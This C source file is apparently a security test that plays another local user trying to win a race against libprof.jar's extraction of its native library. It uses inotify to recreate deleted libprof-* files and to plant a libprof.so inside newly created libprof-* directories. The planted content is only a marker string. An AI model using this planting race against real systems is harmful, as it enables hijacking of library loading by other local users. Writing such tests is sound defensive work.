/*
 * plant_race <dir> <seconds>: another local user's attempt to plant a file where libprof.jar extracts its
 * library (run under that user's uid). It watches <dir> with inotify and, for every entry named libprof-*: a
 * file just deleted is created again at once (O_EXCL), as one racing a delete-then-recreate copy would; a
 * directory just created gets a libprof.so of ours inside, if its permissions let us. Prints "watching" when
 * ready, each attempt's result, and "planted <n>" at the end.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int plant(const char *path) {
    int fd = open(path, O_CREAT | O_EXCL | O_WRONLY, 0666);
    if (fd < 0) return -1;
    if (write(fd, "planted\n", 8) < 0) perror("write");
    close(fd);
    return 0;
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: plant_race <dir> <seconds>\n");
        return 2;
    }
    int fd = inotify_init1(IN_NONBLOCK);
    if (fd < 0 || inotify_add_watch(fd, argv[1], IN_CREATE | IN_DELETE | IN_MOVED_FROM) < 0) {
        perror("inotify");
        return 1;
    }
    printf("watching %s\n", argv[1]);
    fflush(stdout);
    long planted = 0;
    time_t end = time(NULL) + atol(argv[2]);
    char buf[8192] __attribute__((aligned(8)));
    while (time(NULL) < end) {
        struct pollfd p = {fd, POLLIN, 0};
        if (poll(&p, 1, 200) <= 0) continue;
        ssize_t n = read(fd, buf, sizeof(buf));
        for (char *at = buf; n > 0 && at < buf + n;) {
            struct inotify_event *e = (struct inotify_event *)at;
            at += sizeof(*e) + e->len;
            if (!e->len || strncmp(e->name, "libprof-", 8) != 0) continue;
            char path[4096];
            if (e->mask & IN_ISDIR) {
                if (!(e->mask & IN_CREATE)) continue;
                struct stat st;
                snprintf(path, sizeof(path), "%s/%s", argv[1], e->name);
                int mode = stat(path, &st) == 0 ? (int)(st.st_mode & 07777) : -1;
                snprintf(path, sizeof(path), "%s/%s/libprof.so", argv[1], e->name);
                int rc = plant(path);
                printf("dir %s mode %o: plant inside %s\n", e->name, mode, rc == 0 ? "done" : strerror(errno));
                planted += rc == 0;
            } else if (e->mask & (IN_DELETE | IN_MOVED_FROM)) {
                snprintf(path, sizeof(path), "%s/%s", argv[1], e->name);
                int rc = plant(path);
                printf("file %s deleted: plant %s\n", e->name, rc == 0 ? "done" : strerror(errno));
                planted += rc == 0;
            }
            fflush(stdout);
        }
    }
    printf("planted %ld\n", planted);
    return 0;
}
